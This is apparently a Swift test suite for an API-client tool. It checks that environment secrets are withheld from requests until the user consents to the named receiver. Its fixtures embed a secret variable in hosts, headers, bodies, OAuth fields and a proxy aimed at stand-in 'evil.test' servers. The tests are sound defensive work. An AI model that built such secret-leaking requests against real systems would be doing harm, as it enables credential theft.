import Foundation
import Networking
import TestSupport
import Testing

@testable import Workspaces

@Suite("Process variables need consent") struct VariableConsentTests {
  /// Every place of a request through which a value could leave, with its receiver.
  static let exits: [(name: String, receiver: String, change: @Sendable (inout RequestDefinition) -> Void)] = [
    ("URL", "https://api.test", { $0.url += "?k={{CLOUD_SECRET}}" }),
    ("host", "https://{{CLOUD_SECRET}}.evil.test", { $0.url = "https://{{CLOUD_SECRET}}.evil.test/x" }),
    ("method", "https://api.test", { $0.method = "{{CLOUD_SECRET}}" }),
    (
      "path", "https://api.test",
      {
        $0.url += "/:id"
        $0.params = [Parameter(.path, Row("id", "{{CLOUD_SECRET}}"))]
      }
    ),
    ("header", "https://api.test", { $0.headers = [Row("X", "a {{process.env.CLOUD_SECRET}}")] }),
    ("header name", "https://api.test", { $0.headers = [Row("{{CLOUD_SECRET}}", "a")] }),
    ("body", "https://api.test", { $0.body = .text(.json, "{\"k\": \"{{CLOUD_SECRET}}\"}") }),
    ("form", "https://api.test", { $0.body = .form([Row("k", "{{CLOUD_SECRET}}")]) }),
    ("part", "https://api.test", { $0.body = .multipart([FormPart("k", .text("{{CLOUD_SECRET}}"))]) }),
    ("GraphQL", "https://api.test", { $0.body = .graphql(query: "{a}", variables: "{\"k\": \"{{CLOUD_SECRET}}\"}") }),
    (
      "through a variable", "https://api.test",
      {
        $0.variables = [Row("mine", "{{CLOUD_SECRET}}")]
        $0.headers = [Row("X", "{{mine}}")]
      }
    ),
    (
      "bearer", "https://api.test",
      { $0.authentication = Authentication(.bearer, [.init("token", "{{CLOUD_SECRET}}")]) }
    ),
    (
      "login", "https://id.evil.test:8443, its token to https://api.test",
      {
        $0.authentication = Authentication(
          .oauth2,
          [
            .init("accessTokenUrl", "https://id.evil.test:8443/token"), .init("credentials.clientId", "me"),
            .init("credentials.clientSecret", "{{CLOUD_SECRET}}"),
          ])
      }
    ),
    ("test", "the results of the tests", { $0.assertions = [Assertion("res.status", "eq", "{{CLOUD_SECRET}}")] }),
  ]

  @Test("Wherever a value would be sent, consent is asked for once, naming its receiver", arguments: exits.indices)
  func places(index: Int) throws {
    let sample = try ConsentSample()
    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
    Self.exits[index].change(&definition)
    let uses = try sample.refused(definition)
    #expect(uses.map(\.source) == [.variable("CLOUD_SECRET")])
    #expect(uses.map(\.receiver) == [Self.exits[index].receiver])
    try sample.allow(uses)
    // Such a request may have other faults, which do not matter here.
    #expect((try? sample.refused(definition)) ?? [] == [])
  }

  @Test("The proxy of a collection gets no value without consent, and is part of the receiver")
  func proxy() throws {
    let sample = try ConsentSample()
    func write(_ host: String) throws {
      try sample.folder.write(
        "c/opencollection.yml",
        "info: {name: C}\nconfig:\n  proxy: {inherit: false, config: {protocol: http, hostname: '\(host)', port: 8080}}\n"
      )
    }
    try write("{{CLOUD_SECRET}}.evil.test")
    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
    let uses = try sample.refused(definition)
    #expect(uses.map(\.receiver) == ["the proxy http://{{CLOUD_SECRET}}.evil.test:8080"])
    try sample.folder.write("c/opencollection.yml", "info: {name: C}\n")
    definition.headers = [Row("X", "{{CLOUD_SECRET}}")]
    try sample.allow(sample.refused(definition))
    #expect(try sample.refused(definition).isEmpty)
    try write("proxy.test")
    #expect(try sample.refused(definition).map(\.receiver) == ["https://api.test by the proxy http://proxy.test:8080"])
  }

  @Test("A consent is for one name, one receiver and one collection; field and path do not matter")
  func scope() throws {
    let sample = try ConsentSample()
    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
    definition.headers = [Row("X", "{{CLOUD_SECRET}}")]
    try sample.allow(sample.refused(definition))
    definition.headers = [Row("Y", "{{CLOUD_SECRET}}")]
    definition.url = "https://me@API.test:443/other?q=1"
    #expect(try sample.refused(definition).isEmpty)
    for url in ["http://api.test/x", "https://api.test:444/x", "https://evil.test/x", "https://api.test@evil.test/"] {
      definition.url = url
      #expect(try sample.refused(definition).count == 1, "\(url)")
    }
    definition.url = "https://api.test/{{HOME}}"
    #expect(try sample.refused(definition).map(\.source) == [.variable("HOME")])
    try sample.folder.write("d/opencollection.yml", "info: {name: D}\n")
    let other = try Workspace.open(sample.folder.path("d"), stateFolder: sample.folder.path("state"))
    let context = try other.context(for: other.path, inputs: VariableInputs(process: ConsentSample.process))
    definition.url = "https://api.test/x"
    #expect(try sample.refused(definition, in: context).count == 1)
  }

  @Test("A receiver from an environment is its host; another environment needs another consent")
  func environments() throws {
    let sample = try ConsentSample()
    for name in ["near", "far"] {
      try sample.folder.write(
        "c/environments/\(name).yml", "variables: [{name: base, value: 'https://\(name).test/v1'}]\n")
    }
    let definition = RequestDefinition(name: "x", url: "{{base}}/{{CLOUD_SECRET}}")
    let near = try sample.refused(definition, in: sample.context(environment: "near"))
    #expect(near.map(\.receiver) == ["https://near.test"])
    try sample.allow(near)
    #expect(try sample.refused(definition, in: sample.context(environment: "near")).isEmpty)
    #expect(
      try sample.refused(definition, in: sample.context(environment: "far")).map(\.receiver) == ["https://far.test"])
  }

  @Test("APUS_VAR_NAME and --var are consent, and a declared secret follows the same rule")
  func given() throws {
    let sample = try ConsentSample()
    try sample.folder.write(
      "c/environments/e.yml",
      "variables:\n  - {secret: true, name: CLOUD_SECRET}\n  - {secret: true, name: key, value: x}\n")
    var definition = RequestDefinition(name: "x", url: "https://api.test/")
    definition.headers = [Row("X", "{{CLOUD_SECRET}}"), Row("Y", "{{process.env.CLOUD_SECRET}}")]
    #expect(try sample.refused(definition, in: sample.context(environment: "e")).count == 1)
    let given = try sample.context(
      environment: "e", process: ["APUS_VAR_CLOUD_SECRET": "given", "CLOUD_SECRET": "raw"])
    let prepared = try PreparedRequest(definition, in: given)
    #expect(prepared.request.headers["X"] == "given" && prepared.request.headers["Y"] == "given")
    definition.headers.removeLast()
    let typed = try sample.context(given: ["CLOUD_SECRET": "typed"])
    #expect(try PreparedRequest(definition, in: typed).request.headers["X"] == "typed")
    let naming = try sample.context(given: ["CLOUD_SECRET": "{{process.env.HOST}}"])
    #expect(try PreparedRequest(definition, in: naming).request.headers["X"] == "mine.test")
  }

  @Test("A value from an answer must not name a process variable")
  func captured() throws {
    let sample = try ConsentSample()
    var context = try sample.context()
    context.setRuntime(RuntimeVariables([.init("next", "{{process.env.CLOUD_SECRET}}")]))
    var definition = RequestDefinition(name: "x", url: "https://api.test/")
    definition.headers = [Row("X", "{{next}}")]
    #expect(try PreparedRequest(definition, in: context).request.headers["X"] == "{{process.env.CLOUD_SECRET}}")
    definition.headers = [Row("X", "{{{{next}}}}")]
    #expect(throws: SendRefusal.self) { try PreparedRequest(definition, in: context) }
  }

  @Test("A value named by the user goes to the request's own server only, and only under that name")
  func named() throws {
    let sample = try ConsentSample()
    var context = try sample.context()
    context.consent?.named = UserValueSource.variables(in: ["X: {{process.env.CLOUD_SECRET}} {{mine}}"])
    var definition = RequestDefinition(name: "x", url: "https://api.test/{{CLOUD_SECRET}}")
    #expect(try sample.refused(definition, in: context).isEmpty)
    definition.variables = [Row("mine", "{{HOME}}")]
    definition.headers = [Row("X", "{{mine}}")]
    #expect(try sample.refused(definition, in: context).map(\.source) == [.variable("HOME")])
    definition.headers = []
    definition.authentication = Authentication(
      .oauth2,
      [.init("accessTokenUrl", "https://evil.test/t"), .init("credentials.clientId", "{{CLOUD_SECRET}}")])
    let receivers = try sample.refused(definition, in: context).map(\.receiver)
    #expect(receivers == ["https://evil.test, its token to https://api.test"])
    // A server that receives the tokens for itself is named once.
    definition.url = "https://evil.test/x"
    #expect(try sample.refused(definition, in: context).map(\.receiver) == ["https://evil.test"])
  }
}
